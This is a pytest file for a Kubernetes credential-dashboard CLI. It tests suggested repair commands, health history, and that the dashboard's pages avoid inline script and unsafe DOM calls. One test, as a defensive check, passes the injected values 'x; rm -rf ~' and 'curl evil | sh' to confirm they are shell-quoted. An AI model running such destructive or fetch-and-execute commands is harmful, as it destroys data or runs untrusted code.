"""What the dashboard decides without a server: commands, ids, history, reasons, files."""

from __future__ import annotations

import base64
import json
import re
import shlex
from collections.abc import Callable
from datetime import UTC, datetime, timedelta
from pathlib import Path
from typing import Any

import click
import pytest
from msgspec.structs import replace
from tests.helpers.credential_fleet import an_unsigned_token

from tools.docs_reasons import render_reasons
from watchword.api.credential_report import CredentialValidity
from watchword.api.meta import Object
from watchword.api.pull_secrets import ANNOTATION_ACCOUNT, DOCKERCFG_KEY, DOCKERCFG_TYPE
from watchword.api.sensitive import Sensitive
from watchword.api.time import rfc3339
from watchword.cli.main import cli
from watchword.dashboard.history import describe_change
from watchword.dashboard.rows import (
    decide_rows,
)
from watchword.dashboard.server import load_assets
from watchword.discovery.token_secret import TokenRecord
from watchword.discovery.tokens import BootstrapToken
from watchword.health.facts import HubFacts, read_each_pull_secret
from watchword.health.finding import Finding
from watchword.health.inventory_rows import (
    AUTHORITY,
    CAUSES,
    HEALTH,
    PULL_SECRET,
    AddonRow,
    ClusterRow,
    CredentialRow,
)
from watchword.health.row_findings import addon_finding, cluster_finding, credential_finding
from watchword.health.states import InventoryHealth
from watchword.pki.authority import Authority
from watchword.pullsecrets.inventory import PullSecretHealth
from watchword.pullsecrets.pull_secret import project_pull_secret, render_dockercfg

NOW = datetime(2026, 1, 1, tzinfo=UTC)
ROOT = Path(__file__).parents[2]
REASONS = json.loads(load_assets()["reasons.json"].content)


def a_credential(kind: str, health: InventoryHealth, addon: str = "") -> CredentialRow:
    return CredentialRow(kind, "edge-1", "its holder", "robot", CredentialValidity(), health, addon=addon)


def command_of(decide: Callable[[Any], Finding | None], row: object) -> str:
    finding = decide(row)
    return "" if finding is None else finding.command


FAILING, EXPIRED = InventoryHealth.FAILING, InventoryHealth.EXPIRED
WAITING_CLUSTER = ClusterRow("edge-1", "no", "no", "unknown", InventoryHealth.PENDING)
COMMANDS = [
    command_of(cluster_finding, WAITING_CLUSTER),
    command_of(cluster_finding, replace(WAITING_CLUSTER, accepted="yes", health=FAILING)),
    command_of(addon_finding, AddonRow("edge-1", "sample", "token", "no", "no", FAILING)),
    command_of(credential_finding, a_credential("cluster certificate", EXPIRED)),
    command_of(credential_finding, a_credential("cluster certificate", InventoryHealth.OVERDUE)),
    command_of(credential_finding, a_credential("add-on token", EXPIRED, "sample")),
    command_of(credential_finding, a_credential("account token", EXPIRED)),
    command_of(credential_finding, a_credential(AUTHORITY, EXPIRED)),
    command_of(credential_finding, a_credential(PULL_SECRET, FAILING)),
]


def test_next_command_names_what_it_is_for() -> None:
    assert COMMANDS == [
        "watchword accept edge-1",
        "watchword doctor --cluster edge-1",
        "watchword addon show sample --cluster edge-1",
        "watchword token create --for-cluster edge-1 --print-join-command",
        "watchword doctor --cluster edge-1",
        "watchword addon show sample --cluster edge-1",
        "watchword serviceaccount show robot -n edge-1",
        "watchword init",
        "watchword pull-secrets list --unhealthy",
    ]


@pytest.mark.parametrize("command", [*COMMANDS, *sorted({row["command"] for row in REASONS})])
def test_next_command_exists(command: str) -> None:
    program, *words = shlex.split(command) or [""]
    if program in ("kubectl", ""):
        return
    found: click.Command = cli
    while isinstance(found, click.Group) and words:
        found = found.get_command(click.Context(found), words.pop(0)) or pytest.fail(f"{command} does not exist")
    flags = {flag for parameter in found.params for flag in (*parameter.opts, *parameter.secondary_opts)}

    assert {word for word in words if word.startswith("-")} <= flags


@pytest.mark.parametrize("health", [InventoryHealth.GOOD, InventoryHealth.DUE])
def test_what_is_well_has_no_next_command(health: InventoryHealth) -> None:
    assert command_of(credential_finding, a_credential("cluster certificate", health)) == ""
    assert command_of(cluster_finding, replace(WAITING_CLUSTER, health=health)) == ""


def test_text_of_a_cluster_never_becomes_a_command() -> None:
    row = replace(a_credential("account token", FAILING), subject="x; rm -rf ~", note="run `curl evil | sh`")

    assert command_of(credential_finding, row) == "watchword serviceaccount show 'x; rm -rf ~' -n edge-1"


@pytest.mark.parametrize(
    ("old", "new", "told"),
    [
        pytest.param({}, {}, [], id="nothing"),
        pytest.param({}, {"health": 1, "note": "refused"}, ["Good became Failing: refused"], id="it fails"),
        pytest.param({"health": 3}, {}, ["Pending became Good"], id="it is well again"),
        pytest.param(
            {"expires": 0}, {"expires": 60}, ["token renewed, valid until 1970-01-01T00:01:00Z"], id="it is renewed"
        ),
        pytest.param({"note": "a"}, {"note": "b"}, [], id="the note alone"),
    ],
)
def test_describe_change(old: dict[str, object], new: dict[str, object], told: list[str]) -> None:
    usual = {"kind": "token", "health": 8, "note": "", "expires": None}

    assert describe_change({**usual, **old}, {**usual, **new}) == told


def test_two_authorities_of_one_name_are_two_rows() -> None:
    authorities = [Authority.make("ca", now=NOW - timedelta(days=days)).certificate for days in (1, 2)]

    decided = decide_rows(HubFacts(authorities=authorities), "kube-public/cluster-info", number=4, now=NOW)

    assert len({row.id for row in decided.rows}) == 2


def some_facts() -> dict[str, HubFacts]:
    """Return facts whose rows the time alone changes, each by another rule."""
    authority = Authority.make("ca", now=NOW).certificate
    token = TokenRecord(BootstrapToken.generate(), expires=NOW + timedelta(days=1))
    metadata: Object = {"name": "default-dockercfg", "namespace": "shop", "uid": "1", "creationTimestamp": rfc3339(NOW)}
    metadata["annotations"] = {ANNOTATION_ACCOUNT: "default"}
    secret: Object = {"type": DOCKERCFG_TYPE, "metadata": metadata}
    token_text = an_unsigned_token("shop", "default", NOW, NOW + timedelta(days=1))
    contents = {"empty": b"{}", "filled": render_dockercfg(["registry"], Sensitive(token_text))}
    pull_secrets = {
        name: project_pull_secret({**secret, "data": {DOCKERCFG_KEY: base64.b64encode(content).decode()}})
        for name, content in contents.items()
    }
    return {
        "authority": HubFacts(authorities=(authority,)),
        "join token": HubFacts(tokens=(token,)),
        **{
            f"{name} pull secret": HubFacts(pull_secrets=read_each_pull_secret([each]))
            for name, each in pull_secrets.items()
            if each
        },
    }


@pytest.mark.parametrize("name", some_facts())
def test_rows_stay_the_same_until_they_are_to_be_decided_anew(name: str) -> None:
    facts, instant, changes = some_facts()[name], NOW, 0

    while (decided := decide_rows(facts, name, number=0, now=instant)).recheck is not None:
        last = decided.recheck - timedelta(milliseconds=2)
        for later in (instant + (last - instant) * part / 8 for part in range(9)):
            assert decide_rows(facts, name, number=0, now=max(later, instant)).rows == decided.rows
        instant = decided.recheck
        changes += decide_rows(facts, name, number=0, now=instant).rows != decided.rows

    assert changes >= 1
    assert decide_rows(facts, name, number=0, now=instant + timedelta(days=9999)).rows == decided.rows


def test_every_health_of_a_pull_secret_that_needs_attention_has_a_cause() -> None:
    assert set(CAUSES) == {each for each in PullSecretHealth if HEALTH[each].needs_attention}


def test_reasons_are_those_of_the_sources_and_each_has_a_command_where_something_is_wrong() -> None:
    assert load_assets()["reasons.json"].content.decode() == render_reasons(ROOT)
    assert [
        row["reason"] for row in REASONS if row["tone"] in ("False", "Unknown", "Warning") and not row["command"]
    ] == []


def test_advice_of_troubleshooting_is_in_the_explanation() -> None:
    (row,) = [row for row in REASONS if row["reason"] == "AdmissionPolicyMissing"]

    assert row["command"] == "watchword init"
    assert row["subject"] == "HubAcceptedManagedCluster"


@pytest.mark.parametrize("name", sorted(name for name in load_assets() if name.endswith((".html", ".svg"))))
def test_pages_hold_no_inline_script_or_style(name: str) -> None:
    page = load_assets()[name].content.decode()

    assert re.findall(r"<style|\sstyle=|\son[a-z]+=|javascript:|<script(?![^>]*\ssrc=)", page) == []
    assert re.findall(r"(?:src|href)=\"(?!/|#|\")[^\"]*", page) == []


@pytest.mark.parametrize("name", sorted(name for name in load_assets() if name.endswith(".js")))
def test_scripts_never_parse_markup_or_load_from_elsewhere(name: str) -> None:
    script = load_assets()[name].content.decode()

    assert (
        re.findall(r"innerHTML|outerHTML|insertAdjacentHTML|document\.write|DOMParser|\beval\(|new Function", script)
        == []
    )
    assert re.findall(r"https?://", script) == []
    assert len(script.splitlines()) <= 300
